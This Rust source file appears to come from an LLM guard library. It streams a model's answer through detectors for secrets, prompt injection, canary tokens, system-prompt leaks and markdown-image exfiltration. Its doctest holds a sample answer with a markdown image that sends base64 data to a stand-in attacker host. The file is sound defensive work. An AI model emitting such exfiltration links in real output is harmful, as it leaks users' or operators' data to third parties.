//! Streamed output scanning: [`OutputStream`] takes a model's answer chunk by chunk,
//! returns the text that is already certain to be safe (redacted as [`Guard::redact`]
//! would), holds back only what a pending match may still need, and ends with the same
//! findings a one-shot [`Guard::scan_output`] of the whole text reports.
//!
//! # Design
//!
//! The stream keeps the unreleased tail of the text plus a little context before it, never
//! the whole answer. Two positions move forward:
//! - *committed*: every finding that starts before it has been decided (added to the
//!   report, its action applied);
//! - *released*: text before it has been handed to the caller. It trails committed only
//!   where a redaction replacement could still merge with a finding not decided yet, and
//!   stops for good at the first blocking finding.
//!
//! When the text has grown by one step since the last scan, the stream scans a slice
//! from a little before committed (`left` context, moved back to a paragraph start) to
//! the end of the text, with every rule and detector, and decides the findings that start
//! before the new committed point: `end - hold`, or earlier where a match may still be
//! pending (below). Slices overlap by the context and the hold-back only (`step = left +
//! hold`), whatever the chunk size: pushing 16 bytes costs an append and a comparison,
//! not a scan. What a scan re-reads is kept cheap:
//! - the engine's keyword automaton reads each byte once: the matches in the part of the
//!   slice an earlier scan searched are kept (`stored`) and handed to the engine with
//!   those of the new text;
//! - in the part already decided (before the old committed point), the rule windows that
//!   end there and the URLs there are skipped, since nothing found there is kept; only
//!   the prompt-injection rules still run there, because their findings change each
//!   other's scores;
//! - so what is read twice is the held-back part (`(hold + step) / step`, 1.5x with the
//!   default rules), and the markdown parse and the code detectors, which read the whole
//!   slice.
//!
//! Memory is the slice (context + hold + step, plus at most `exfiltration::OPEN_CAP` of an
//! unfinished markdown construct), the keyword matches in it (at most `MAX_STORED_HITS`,
//! past which the next slice searches again), the report's findings and the per-prompt
//! state below.
//!
//! Why the findings equal a one-shot scan's, by detector:
//! - *Rules*: a keyword-gated regex runs within `window` bytes of its keyword, a match
//!   counts only inside the window of one keyword hit (also in one-shot scans, where
//!   windows of nearby hits are merged), and every match contains a keyword, so a match
//!   and the context words it reads lie within a rule's reach of its keyword
//!   (`RuleReach`, computed from the rule specs: how far before the keyword a match can
//!   start, from where a keyword sits in the regex's literal prefixes (0 when they all
//!   begin with one, 4 for `aws_session_token` with the keyword `session_token`), and
//!   how far after it the window and context end). The stream holds
//!   back, for keywords not seen yet, the longest keyword plus that lead, and for every
//!   keyword hit whose reach goes past the text so far, from its lead on. So the
//!   private-key rules' 9 KB windows hold text only after a `-----BEGIN`, instead of
//!   `2 * RuleSet::max_window()` everywhere. Rules on the normalised view and rules
//!   without keywords hold their whole reach (an unbounded regex counts as
//!   `UNGATED_CAP` bytes). The `left` context covers context words before a match.
//! - *Detectors with a finite `Detector::max_window()`* (the canary matcher, whose
//!   matches are capped at `canary::MAX_SPAN` bytes in one-shot scans too): `hold`
//!   also covers the largest of their windows.
//! - *Exfiltration*: markdown is not local, so the stream does what a renderer does.
//!   Slices start at a paragraph start (a line after a blank line, not indented), where
//!   the CommonMark block state is known: if that point is inside a fenced code block or
//!   an HTML block (learned from parsing the previous slice), that block's first line is
//!   put in front as context. Reference definitions and unresolved reference uses are
//!   remembered across slices, and a reference image is reported where its use/definition
//!   pair completes, which is the same place in both modes. Committing stops before
//!   anything that may still be unfinished (an unclosed `[`, `](`, `<tag`, code span, or
//!   the last word, which may be a growing URL), up to `OPEN_CAP` bytes.
//! - *Prompt leak*: the shingle coverage is a property of the whole answer, so instead of
//!   holding text back the stream feeds every chunk to a `LeakTracker` (memory bounded by
//!   the prompt), the same incremental reader the one-shot detector uses, and adds its
//!   finding at the end. As coverage only grows, the stream stops releasing as soon as
//!   the coverage crosses the threshold, and `report()` shows the finding so far.
//! - *Detectors that need the whole text* (`max_window() == usize::MAX`, e.g. a
//!   classifier that does not window): the stream keeps the whole text for them only and
//!   runs them at `finish()`; their findings can then only stop the tail.
//!
//! The exactness above assumes what the limits say: no rule match longer than its
//! window, no markdown construct, code span or bare URL longer than `OPEN_CAP`, no
//! paragraph-less run (a single paragraph, list or table without a blank line) longer than
//! `ALIGN_LIMIT` that opens a code span before a slice start and closes it after, and no
//! reference whose link text holds markup (`[*x*][ref]`) used before its definition; past
//! those the stream decides with what it has, which can differ from the one-shot scan.
//! (A reference used before its definition is text until the definition arrives, so the
//! one-shot scan reads the text around such a reference with plain link text as text
//! too: a bare URL runs into it in both.)
//! The three built-in output detectors are recognised by their names (`exfiltration`,
//! `canary`, `prompt_leak`): a detector of your own should not use those names.

use std::collections::{HashMap, VecDeque};
use std::fmt;
use std::sync::{Arc, OnceLock};

use regex_syntax::hir::literal::{ExtractKind, Extractor};
use regex_syntax::hir::{Capture, Class, Hir, HirKind, Repetition};
use vallum_rules::{Direction as RuleDirection, RuleSpec, ViewKind, builtin_packs};

use crate::detectors::canary::{self, CanaryMatcher};
use crate::detectors::exfiltration::{self, Exfiltration, PromptInfo, RefState};
use crate::detectors::prompt_leak::{self, LeakModel, LeakTracker};
use crate::engine::{Engine, KeywordHit, floor_boundary};
use crate::guard::redactable;
use crate::{Action, Detector, Finding, Guard, Policy, Report, ScanError, Span, normalize};

/// Bytes of slack around a rule's reach: word boundaries and look-around characters.
const RULE_SLACK: usize = 16;

/// Smallest step between two scans.
const MIN_STEP: usize = 1024;

/// The length assumed for matches of rules without keywords whose regex has no bound.
const UNGATED_CAP: usize = 256;

/// How far back from its target a slice start may move to reach a paragraph start.
const ALIGN_LIMIT: usize = 4096;

/// Longest block opener line carried as context into the next slice.
const MAX_PREFIX: usize = 1024;

/// Most keyword matches kept for the next slice; past it the next slice searches again
/// (only on text dense with keywords, such as a run of digits).
const MAX_STORED_HITS: usize = 1 << 16;

/// Incremental scanning of a model's answer; made by [`Guard::output_stream`].
///
/// `push` returns the text that is safe to show now (possibly empty), already redacted as
/// the policy says; `finish` returns the rest. After a blocking finding nothing more is
/// released (`push` returns `""`) but scanning goes on, so `report()` after `finish` holds
/// the same findings as [`Guard::scan_output`] of the whole text, with offsets into it.
///
/// With the default policy a byte waits at most about 3 KB of further text before it is
/// released (1 KB held back for pending matches, plus one 2 KB step between scans), except
/// where a pending match needs more (an open markdown link, a private-key block).
///
/// The stream owns what it needs (a clone of the guard, which is an `Arc`, and the
/// prompt), so it can be moved across threads and held by the language bindings.
///
/// ```
/// let guard = vallum::Guard::new()?;
/// let mut stream = guard.output_stream(Some("Summarise the article."));
/// let mut shown = String::new();
/// for chunk in ["Here is the summary. ", "![chart](https://attacker.example/c.png?d=", "c2VjcmV0IGRhdGEgaGVyZQ)"] {
///     shown += &stream.push(chunk)?;
/// }
/// shown += &stream.finish()?;
/// assert!(stream.is_blocked());
/// assert_eq!(shown, "Here is the summary. ");
/// assert_eq!(stream.report().findings[0].kind.as_ref(), "markdown_image");
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub struct OutputStream {
    guard: Guard,
    prompt: Option<String>,
    /// The text from `base` on.
    buf: String,
    base: usize,
    committed: usize,
    released: usize,
    /// Where the next slice starts, and the markdown context put before it.
    scan_from: usize,
    prefix: String,
    /// An incomplete UTF-8 sequence from `push_bytes`.
    utf8: [u8; 4],
    utf8_len: usize,
    findings: Vec<Finding>,
    /// Decided redactable findings whose text is not released yet.
    pending_redact: Vec<Finding>,
    /// The start of the first blocking finding.
    block_at: Option<usize>,
    /// Set once a block stopped the release for good.
    stopped: bool,
    /// Whether anything changed since the last release (a scan, a leak finding).
    dirty: bool,
    finished: bool,
    hold: usize,
    step: usize,
    left: usize,
    /// The stream scans again once it reaches this length.
    next_scan: usize,
    /// What every stream of the guard shares (the rules' reach, the markdown reader).
    shared: Arc<StreamShared>,
    /// Keyword hits whose rule may still match: (start, open until, reach before).
    hits: Vec<(usize, usize, usize)>,
    /// How far the text was searched for keywords.
    keywords_done: usize,
    /// The engine's keyword matches (stream offsets) in the text the next slice re-reads,
    /// so each byte goes through the keyword automaton once: complete for matches that
    /// start at or after `stored_from` and end by `keywords_done`.
    stored: VecDeque<KeywordHit>,
    stored_from: usize,
    exfil: Option<ExfilState>,
    canary: Option<CanaryMatcher>,
    leak: Option<LeakState>,
    /// The whole text, only when a detector needs it.
    whole: Option<String>,
}

struct ExfilState {
    prompt: PromptInfo,
    refs: RefState,
}

struct LeakState {
    tracker: LeakTracker,
    threshold: f32,
    /// Distinct shingles seen when last checked.
    checked: usize,
    /// The finding so far, with the policy's action.
    current: Option<Finding>,
}

fn is_special(name: &str) -> bool {
    name == exfiltration::NAME || name == canary::NAME || name == prompt_leak::NAME
}

fn windowed(d: &dyn Detector) -> bool {
    !is_special(d.name()) && d.max_window() != usize::MAX
}

fn needs_whole(d: &dyn Detector) -> bool {
    !is_special(d.name()) && d.max_window() == usize::MAX
}

impl fmt::Debug for OutputStream {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("OutputStream")
            .field("len", &(self.base + self.buf.len()))
            .field("committed", &self.committed)
            .field("released", &self.released)
            .field("findings", &self.findings.len())
            .field("blocked", &self.is_blocked())
            .field("finished", &self.finished)
            .finish_non_exhaustive()
    }
}

impl OutputStream {
    pub(crate) fn new(guard: Guard, prompt: Option<String>) -> OutputStream {
        let has = |name: &str| guard.detectors().any(|d| d.name() == name);
        let policy = guard.policy();
        let exfil = has(exfiltration::NAME).then(|| ExfilState {
            prompt: PromptInfo::new(prompt.as_deref()),
            refs: RefState::default(),
        });
        let canary = if has(canary::NAME) {
            prompt.as_deref().and_then(CanaryMatcher::new)
        } else {
            None
        };
        let leak = if has(prompt_leak::NAME) {
            prompt
                .as_deref()
                .and_then(LeakModel::new)
                .map(|model| LeakState {
                    tracker: LeakTracker::new(model),
                    threshold: policy.output.leak_threshold,
                    checked: 0,
                    current: None,
                })
        } else {
            None
        };
        let shared = guard.stream_shared();
        let reach = &shared.reach;
        let detector_window = guard
            .detectors()
            .filter(|d| windowed(*d))
            .map(Detector::max_window)
            .max()
            .unwrap_or(0);
        let canary_window = if canary.is_some() {
            canary::MAX_SPAN
        } else {
            0
        };
        let hold = reach.fixed.max(detector_window).max(canary_window);
        // A detector's window is also the context it may read before a position.
        let left = reach.left.max(detector_window).max(canary_window);
        // Each scan re-reads `left + hold` bytes: a step of that size keeps the total
        // near twice the stream.
        let step = (hold + left).max(MIN_STEP);
        let whole = guard.detectors().any(needs_whole).then(String::new);
        OutputStream {
            prompt,
            buf: String::new(),
            base: 0,
            committed: 0,
            released: 0,
            scan_from: 0,
            prefix: String::new(),
            utf8: [0; 4],
            utf8_len: 0,
            findings: Vec::new(),
            pending_redact: Vec::new(),
            block_at: None,
            stopped: false,
            dirty: false,
            finished: false,
            hold,
            step,
            left,
            next_scan: hold + step,
            shared,
            hits: Vec::new(),
            keywords_done: 0,
            stored: VecDeque::new(),
            stored_from: 0,
            exfil,
            canary,
            leak,
            whole,
            guard,
        }
    }

    /// Adds the next chunk; returns the text that is now safe to show (may be empty).
    pub fn push(&mut self, chunk: &str) -> Result<String, ScanError> {
        if self.finished {
            return Err(ScanError::StreamFinished);
        }
        if self.utf8_len > 0 {
            // A character cut by `push_bytes` cannot be completed by a `&str`.
            return Err(ScanError::InvalidUtf8 {
                valid_up_to: self.len(),
            });
        }
        self.append(chunk)?;
        Ok(self.release())
    }

    /// Adds the next chunk of UTF-8 bytes; a character split across chunks is completed by
    /// the next one. Bytes that are not UTF-8 are a [`ScanError::InvalidUtf8`] with the
    /// offset into the whole stream.
    pub fn push_bytes(&mut self, bytes: &[u8]) -> Result<String, ScanError> {
        if self.finished {
            return Err(ScanError::StreamFinished);
        }
        let mut bytes = bytes;
        if self.utf8_len > 0 {
            let have = self.utf8_len;
            let take = (4 - have).min(bytes.len());
            let mut joined = [0u8; 8];
            joined[..have].copy_from_slice(&self.utf8[..have]);
            joined[have..have + take].copy_from_slice(&bytes[..take]);
            let joined = &joined[..have + take];
            let valid = match std::str::from_utf8(joined) {
                Ok(_) => joined.len(),
                Err(e) if e.valid_up_to() >= have => e.valid_up_to(),
                Err(e) if e.error_len().is_none() => {
                    // Still incomplete: every new byte was used.
                    self.utf8[..joined.len()].copy_from_slice(joined);
                    self.utf8_len = joined.len();
                    return Ok(String::new());
                }
                Err(_) => {
                    return Err(ScanError::InvalidUtf8 {
                        valid_up_to: self.len(),
                    });
                }
            };
            // The first `valid - have` new bytes complete the pending character.
            let used = valid - have;
            self.utf8_len = 0;
            let ch = std::str::from_utf8(&joined[..valid]).map_err(|_| ScanError::InvalidUtf8 {
                valid_up_to: self.len(),
            })?;
            let ch = ch.to_owned();
            self.append(&ch)?;
            bytes = &bytes[used..];
        }
        match std::str::from_utf8(bytes) {
            Ok(s) => self.append(s)?,
            Err(e) if e.error_len().is_none() => {
                let (valid, rest) = bytes.split_at(e.valid_up_to());
                let s = std::str::from_utf8(valid).map_err(|_| ScanError::InvalidUtf8 {
                    valid_up_to: self.len(),
                })?;
                self.append(s)?;
                self.utf8[..rest.len()].copy_from_slice(rest);
                self.utf8_len = rest.len();
            }
            Err(e) => {
                return Err(ScanError::InvalidUtf8 {
                    valid_up_to: self.len() + e.valid_up_to(),
                });
            }
        }
        Ok(self.release())
    }

    /// Ends the stream: scans what is left and returns the rest of the safe text. After
    /// it, `push` and `finish` return [`ScanError::StreamFinished`].
    pub fn finish(&mut self) -> Result<String, ScanError> {
        if self.finished {
            return Err(ScanError::StreamFinished);
        }
        self.finished = true;
        if self.utf8_len > 0 {
            return Err(ScanError::InvalidUtf8 {
                valid_up_to: self.len(),
            });
        }
        self.scan(true)?;
        if let Some(whole) = self.whole.take() {
            let view = normalize(&whole);
            let mut found = Vec::new();
            self.guard.stream_findings(
                &whole,
                &view,
                self.prompt.as_deref(),
                None,
                &needs_whole,
                &mut found,
            )?;
            for f in self.guard.finalize(&whole, found) {
                self.accept(f);
            }
        }
        if let Some(mut leak) = self.leak.take() {
            leak.tracker.finish();
            if let Some(f) = leak.tracker.finding(leak.threshold)
                && let Some(f) = self.finalize_one(f)
            {
                self.accept(f);
            }
        }
        self.dirty = true;
        Ok(self.release())
    }

    /// The findings so far (all of them after `finish`), offsets into the whole streamed
    /// text, with verdict and score.
    pub fn report(&self) -> Report {
        let mut all = self.findings.clone();
        if let Some(f) = self.leak.as_ref().and_then(|l| l.current.clone()) {
            all.push(f);
        }
        sort_findings(&mut all);
        Report::from_findings(all)
    }

    /// Whether a blocking finding was seen: nothing more is released.
    pub fn is_blocked(&self) -> bool {
        self.block_at.is_some()
            || self
                .leak
                .as_ref()
                .and_then(|l| l.current.as_ref())
                .is_some_and(|f| f.action == Action::Block)
    }

    /// How many bytes were streamed so far.
    pub fn len(&self) -> usize {
        self.base + self.buf.len()
    }

    /// Whether nothing was streamed yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// How many bytes the stream holds in memory: the unreleased tail and the context
    /// before it.
    pub fn buffered(&self) -> usize {
        self.buf.len()
    }

    /// How many bytes were released so far (before redaction).
    pub fn released(&self) -> usize {
        self.released
    }

    fn append(&mut self, chunk: &str) -> Result<(), ScanError> {
        if chunk.is_empty() {
            return Ok(());
        }
        let size = self.len() + chunk.len();
        let limit = self.guard.policy().limits.max_input_bytes;
        if size > limit {
            return Err(ScanError::InputTooLarge { size, limit });
        }
        let at = self.len();
        self.buf.push_str(chunk);
        if let Some(whole) = &mut self.whole {
            whole.push_str(chunk);
        }
        if let Some(leak) = &mut self.leak {
            leak.tracker.feed(chunk, at);
        }
        self.check_leak();
        if self.len() >= self.next_scan {
            self.scan(false)?;
        }
        Ok(())
    }

    /// Updates the provisional leak finding when the tracker saw new shingles.
    fn check_leak(&mut self) {
        let Some(leak) = &mut self.leak else {
            return;
        };
        let distinct = leak.tracker.matched();
        if distinct == leak.checked {
            return;
        }
        leak.checked = distinct;
        let Some(f) = leak.tracker.finding(leak.threshold) else {
            return;
        };
        let f = self.finalize_one(f);
        if let Some(leak) = &mut self.leak {
            leak.current = f;
        }
        self.dirty = true;
    }

    /// Applies the policy to one finding whose text may no longer be buffered.
    fn finalize_one(&self, f: Finding) -> Option<Finding> {
        let span = f.span;
        if span.start >= self.base && span.end <= self.len() {
            let text = &self.buf[span.start - self.base..span.end - self.base];
            let mut local = f;
            local.span = Span::new(0, text.len());
            let mut out = self.guard.finalize(text, vec![local]);
            let mut f = out.pop()?;
            f.span = span;
            return Some(f);
        }
        // `finalize` reads the span's text only to compare it with `allow.terms`; a term
        // of another length can never be equal, so a stand-in of the same length (never
        // equal to a real term) gives the same decision without the text.
        let stand_in = if self
            .guard
            .policy()
            .allow
            .terms
            .iter()
            .any(|t| t.len() == span.len() || t.is_empty())
        {
            "\u{0}".repeat(span.len())
        } else {
            String::from("\u{0}")
        };
        let mut local = f;
        local.span = Span::new(0, stand_in.len().min(span.len().max(1)));
        let mut out = self.guard.finalize(&stand_in, vec![local]);
        let mut f = out.pop()?;
        f.span = span;
        Some(f)
    }

    fn accept(&mut self, f: Finding) {
        if f.action == Action::Block {
            let at = f.span.start;
            self.block_at = Some(self.block_at.map_or(at, |b| b.min(at)));
        }
        if redactable(&f) {
            self.pending_redact.push(f.clone());
        }
        self.findings.push(f);
    }

    /// Scans the slice from `scan_from` to the end and decides what it can.
    fn scan(&mut self, last: bool) -> Result<(), ScanError> {
        let s0 = self.scan_from;
        let end = self.len();
        let skip = self.prefix.len();
        let slice = &self.buf[s0 - self.base..];
        // The keyword matches of the slice: those of the text already searched come from
        // `stored`, the automaton reads only the new text (from a keyword's length before
        // it). If `stored` is not complete back to `s0`, the automaton reads the slice.
        let done = self.keywords_done;
        let engine = &self.guard.rules().engine;
        let reuse = s0 >= self.stored_from;
        let search_from = if reuse {
            floor_boundary(
                &self.buf,
                done.saturating_sub(self.shared.reach.longest_keyword)
                    .max(s0)
                    - self.base,
            ) + self.base
        } else {
            s0
        };
        let old_hits = std::mem::take(&mut self.stored)
            .into_iter()
            .filter(move |h| reuse && h.start >= s0);
        let mut fresh = Vec::new();
        if let Some(index) = engine.keyword_index() {
            index.find_all(
                &self.buf.as_bytes()[search_from - self.base..],
                search_from,
                &mut fresh,
            );
        }
        let fresh = fresh.into_iter().filter(|h| !reuse || h.end > done);
        // Every match of the slice is kept again for the next slice (`scan` drops those
        // before its start once it is known), and the new ones are tracked. Until the
        // scan is through, `stored` counts as incomplete.
        self.stored_from = usize::MAX;
        let mut complete_from = s0;
        let (stored, tracked) = (&mut self.stored, &mut self.hits);
        let per_keyword = &self.shared.reach.per_keyword;
        let mut hits = old_hits
            .chain(fresh)
            .inspect(|h| {
                if h.end > done
                    && let Some(&Some((before, after))) = per_keyword.get(h.pattern as usize)
                {
                    tracked.push((h.start, h.start + after, before));
                }
                if stored.len() == MAX_STORED_HITS
                    && let Some(oldest) = stored.pop_front()
                {
                    complete_from = complete_from.max(oldest.end);
                }
                stored.push_back(*h);
            })
            .map(|h| KeywordHit {
                pattern: h.pattern,
                start: h.start - s0,
                end: h.end - s0,
            });
        let joined: String;
        let md_text: &str = if skip == 0 {
            slice
        } else {
            joined = format!("{}{slice}", self.prefix);
            &joined
        };
        let view = normalize(slice);
        let mut found = Vec::new();
        self.guard.stream_findings(
            slice,
            &view,
            self.prompt.as_deref(),
            Some((&mut hits, self.committed - s0)),
            &windowed,
            &mut found,
        )?;
        // The engine stops reading the matches early only on an empty slice.
        hits.for_each(drop);
        self.stored_from = complete_from;
        self.keywords_done = end;
        self.hits.retain(|h| h.1 > end);
        if let Some(c) = &self.canary {
            c.find(&view, &mut found);
        }
        let mut outcome = None;
        if let Some(ex) = &self.exfil {
            let mut ex_found = Vec::new();
            let out = self.shared.exfil.analyze(
                md_text,
                skip,
                skip + (self.committed - s0),
                &ex.prompt,
                self.guard.rules(),
                &ex.refs,
                &mut ex_found,
            );
            for mut f in ex_found {
                f.span = Span::new(f.span.start - skip, f.span.end - skip);
                found.push(f);
            }
            outcome = Some(out);
        }
        let found = self.guard.finalize(slice, found);

        let committed = if last {
            end
        } else {
            let mut c = end.saturating_sub(self.hold);
            for &(k, _, before) in &self.hits {
                c = c.min(k.saturating_sub(before));
            }
            if let Some(out) = &outcome
                && let Some(p) = exfiltration::open_from(md_text, &out.raw_blocks)
            {
                let o = s0 + p.saturating_sub(skip);
                if end - o <= exfiltration::OPEN_CAP {
                    c = c.min(o);
                }
            }
            floor_boundary(&self.buf, c.max(self.base) - self.base) + self.base
        }
        .max(self.committed);
        let next = if last {
            None
        } else {
            let blocks = outcome.as_ref().map_or(&[][..], |o| &o.raw_blocks[..]);
            Some(self.plan_next(committed, md_text, skip, blocks))
        };

        for mut f in found {
            f.span = Span::new(f.span.start + s0, f.span.end + s0);
            if f.span.start >= self.committed && (last || f.span.start < committed) {
                self.accept(f);
            }
        }
        if let (Some(ex), Some(mut out)) = (&mut self.exfil, outcome) {
            let shift = s0 as isize - skip as isize;
            ex.refs.absorb(&mut out, committed, shift);
        }
        self.committed = committed;
        self.dirty = true;
        self.next_scan = end + self.step.max((end - committed) / 2);
        if let Some((start, prefix)) = next
            && start != s0
        {
            self.scan_from = start;
            self.prefix = prefix;
            self.stored.retain(|h| h.start >= start);
        }
        let keep = if self.stopped {
            self.scan_from
        } else {
            self.scan_from.min(self.released)
        };
        if keep > self.base {
            self.buf.drain(..keep - self.base);
            self.base = keep;
        }
        Ok(())
    }

    /// Where the next slice starts (a paragraph start a little before `committed`) and
    /// the markdown context to put before it: the first line of the fenced code block or
    /// HTML block it falls in, learned from this slice's parse (`md_text`, whose first
    /// `skip` bytes were context).
    fn plan_next(
        &self,
        committed: usize,
        md_text: &str,
        skip: usize,
        blocks: &[(std::ops::Range<usize>, usize)],
    ) -> (usize, String) {
        let old = self.scan_from;
        let target = committed.saturating_sub(self.left).max(old);
        let target = floor_boundary(&self.buf, target - self.base) + self.base;
        let floor = old.max(target.saturating_sub(ALIGN_LIMIT));
        let start = paragraph_start(&self.buf, self.base, target, floor);
        let mut prefix = String::new();
        let pos = start - old + skip;
        if let Some((r, first)) = blocks.iter().find(|(r, _)| r.start < pos && pos < r.end)
            && *first <= MAX_PREFIX
        {
            prefix.push_str(&md_text[r.start..r.start + first]);
            if !prefix.ends_with('\n') {
                prefix.push('\n');
            }
        }
        (start, prefix)
    }

    /// Hands out the text before the point that is decided, redacted; stops at a block.
    fn release(&mut self) -> String {
        if self.stopped || !self.dirty {
            return String::new();
        }
        self.dirty = false;
        if self.is_blocked() && self.block_at.is_none() {
            // A prompt leak: its extent is still growing, so nothing more goes out.
            self.stopped = true;
            return String::new();
        }
        let mut upto = self.committed;
        if let Some(b) = self.block_at {
            upto = upto.min(b);
            self.stopped = true;
        }
        self.pending_redact
            .sort_by_key(|f| (f.span.start, std::cmp::Reverse(f.span.end)));
        let mut group: Option<Span> = None;
        for f in &self.pending_redact {
            group = match group {
                Some(g) if f.span.start < g.end => Some(g.union(f.span)),
                Some(g) if g.end > upto => break,
                _ => Some(f.span),
            };
        }
        if let Some(g) = group
            && g.end > upto
            && g.start < upto
        {
            upto = g.start;
        }
        if upto <= self.released {
            return String::new();
        }
        let from = self.released;
        let text = &self.buf[from - self.base..upto - self.base];
        let (chosen, rest): (Vec<Finding>, Vec<Finding>) = std::mem::take(&mut self.pending_redact)
            .into_iter()
            .partition(|f| f.span.end <= upto);
        self.pending_redact = rest;
        let local: Vec<Finding> = chosen
            .into_iter()
            .map(|mut f| {
                f.span = Span::new(f.span.start - from, f.span.end - from);
                f
            })
            .collect();
        let refs: Vec<&Finding> = local.iter().collect();
        let out =
            crate::redact::redact_spans(text, &refs, &self.guard.policy().redaction).into_owned();
        self.released = upto;
        out
    }
}

/// What every output stream of a guard shares, built with its first stream.
pub(crate) struct StreamShared {
    reach: RuleReach,
    exfil: Exfiltration,
}

impl StreamShared {
    pub(crate) fn new(policy: &Policy, engine: &Engine) -> StreamShared {
        StreamShared {
            reach: RuleReach::new(policy, engine),
            exfil: Exfiltration::new(policy),
        }
    }
}

impl fmt::Debug for StreamShared {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("StreamShared")
            .field("reach", &self.reach)
            .finish_non_exhaustive()
    }
}

/// How far rule matches reach around their keywords, from the rules' specs: what the
/// stream must hold back for the rules.
///
/// A gated rule's regex runs within `window` bytes of a keyword hit and every match
/// contains a keyword, so a match starts at most `before` bytes ahead of its keyword
/// (0 when every match begins with a keyword, from the regex's literal prefixes; else the
/// window, or the regex's longest match when shorter) and, with its context words, ends
/// at most `after` bytes past the keyword's start. So the stream holds back `before` plus
/// a keyword's length for keywords not seen yet, and for each keyword hit whose `after`
/// reaches past the text so far, from `before` ahead of it: a private-key rule with a
/// 9 KB window holds text only after its `-----BEGIN`, not everywhere. Rules on the
/// normalised view (whose keywords only the view shows) and rules without keywords get a
/// fixed hold of their whole reach.
#[derive(Debug)]
struct RuleReach {
    /// Bytes held back whatever the text says.
    fixed: usize,
    /// Context a slice needs before the first position it decides.
    left: usize,
    /// Per pattern of the engine's keyword automaton: (before, after) when a gated
    /// raw-view output rule has that keyword.
    per_keyword: Vec<Option<(usize, usize)>>,
    /// The engine's longest keyword.
    longest_keyword: usize,
}

/// One rule's reach.
#[derive(Debug, Clone)]
struct SpecReach {
    /// Keywords tracked in the text (gated raw-view rules), with (before, after).
    keywords: Vec<String>,
    before: usize,
    after: usize,
    fixed: usize,
    left: usize,
}

impl RuleReach {
    fn new(policy: &Policy, engine: &Engine) -> RuleReach {
        static BUILTIN: OnceLock<Vec<(String, Option<SpecReach>)>> = OnceLock::new();
        let builtin = BUILTIN.get_or_init(|| {
            builtin_packs()
                .iter()
                .flat_map(|p| p.rules.iter().map(move |r| (p.name.clone(), spec_reach(r))))
                .collect()
        });
        let d = &policy.detectors;
        let enabled = |pack: &str| match pack {
            "pii" => d.pii,
            "secrets" => d.secrets,
            "injection" => d.injection,
            "exfiltration" => d.exfiltration,
            _ => true,
        };
        let mut reaches: Vec<SpecReach> = builtin
            .iter()
            .filter(|(pack, _)| enabled(pack))
            .filter_map(|(_, r)| r.clone())
            .collect();
        for rule in &policy.custom {
            let longest = rule.terms.iter().map(String::len).max().unwrap_or(0);
            if longest > 0 {
                // A term matches itself (on the normalised view, so not tracked).
                reaches.push(SpecReach {
                    keywords: Vec::new(),
                    before: 0,
                    after: 0,
                    fixed: 4 * longest + RULE_SLACK,
                    left: RULE_SLACK,
                });
            }
            if let Some(p) = &rule.pattern {
                let len = max_len(p, !rule.case_sensitive).unwrap_or(UNGATED_CAP);
                reaches.push(SpecReach {
                    keywords: Vec::new(),
                    before: 0,
                    after: 0,
                    fixed: len + RULE_SLACK,
                    left: RULE_SLACK,
                });
            }
        }
        let mut by_keyword: HashMap<String, (usize, usize)> = HashMap::new();
        let (mut fixed, mut left) = (RULE_SLACK, RULE_SLACK);
        for r in &reaches {
            fixed = fixed.max(r.fixed);
            left = left.max(r.left);
            for kw in &r.keywords {
                let e = by_keyword.entry(kw.to_ascii_lowercase()).or_default();
                *e = (e.0.max(r.before), e.1.max(r.after));
            }
        }
        let count = engine.keyword_count();
        let per_keyword: Vec<Option<(usize, usize)>> = (0..count)
            .map(|i| {
                let id = u32::try_from(i).expect("fewer than 2^32 keywords");
                by_keyword.get(engine.keyword(id)).copied()
            })
            .collect();
        let longest_keyword = (0..count)
            .map(|i| {
                engine
                    .keyword(u32::try_from(i).expect("fewer than 2^32 keywords"))
                    .len()
            })
            .max()
            .unwrap_or(0);
        if engine.keyword_index().is_none() {
            // Without the automaton, every tracked rule holds its whole reach.
            for r in reaches.iter().filter(|r| !r.keywords.is_empty()) {
                fixed = fixed.max(r.before + r.after);
            }
        }
        RuleReach {
            fixed,
            left,
            per_keyword,
            longest_keyword,
        }
    }
}

/// The reach of one built-in rule; `None` when it never runs on output.
fn spec_reach(spec: &RuleSpec) -> Option<SpecReach> {
    if spec.direction == RuleDirection::Input {
        return None;
    }
    let distance = spec.context.as_ref().map_or(0, |c| c.distance);
    let longest = max_len(&spec.pattern, spec.case_insensitive);
    if spec.keywords.is_empty() {
        return Some(SpecReach {
            keywords: Vec::new(),
            before: 0,
            after: 0,
            fixed: longest.unwrap_or(UNGATED_CAP) + distance + RULE_SLACK,
            left: distance + RULE_SLACK,
        });
    }
    let kw_max = spec.keywords.iter().map(String::len).max().unwrap_or(0);
    let kw_min = spec.keywords.iter().map(String::len).min().unwrap_or(0);
    let w = spec.window;
    if spec.view == ViewKind::Normalized {
        return Some(SpecReach {
            keywords: Vec::new(),
            before: 0,
            after: 0,
            fixed: 2 * w + kw_max + distance + RULE_SLACK,
            left: w + distance + RULE_SLACK,
        });
    }
    let before = keyword_lead(&spec.pattern, spec.case_insensitive, &spec.keywords)
        .unwrap_or_else(|| longest.map_or(w, |m| m.saturating_sub(kw_min).min(w)));
    let after = longest.map_or(kw_max + w, |m| m.min(kw_max + w)) + distance + RULE_SLACK;
    Some(SpecReach {
        keywords: spec.keywords.clone(),
        before: before + RULE_SLACK,
        after,
        fixed: before + kw_max + RULE_SLACK,
        left: distance + RULE_SLACK,
    })
}

fn parse(pattern: &str, ci: bool) -> Option<regex_syntax::hir::Hir> {
    regex_syntax::ParserBuilder::new()
        .case_insensitive(ci)
        .multi_line(true)
        .nest_limit(64)
        .build()
        .parse(pattern)
        .ok()
}

/// The longest match of a pattern in bytes, if bounded.
fn max_len(pattern: &str, ci: bool) -> Option<usize> {
    parse(pattern, ci)?.properties().maximum_len()
}

/// How far into a match its first keyword can start, when every match's literal prefix
/// holds one of the keywords (ASCII case-insensitive): 0 when every match begins with a
/// keyword, 4 for `aws_session_token` with the keyword `session_token`. `None` when some
/// prefix holds none, or the prefixes are not known.
fn keyword_lead(pattern: &str, ci: bool, keywords: &[String]) -> Option<usize> {
    let hir = fold_ascii_case(&parse(pattern, ci)?);
    let mut extractor = Extractor::new();
    extractor
        .kind(ExtractKind::Prefix)
        .limit_class(64)
        .limit_repeat(64)
        .limit_literal_len(64)
        .limit_total(1024);
    let seq = extractor.extract(&hir);
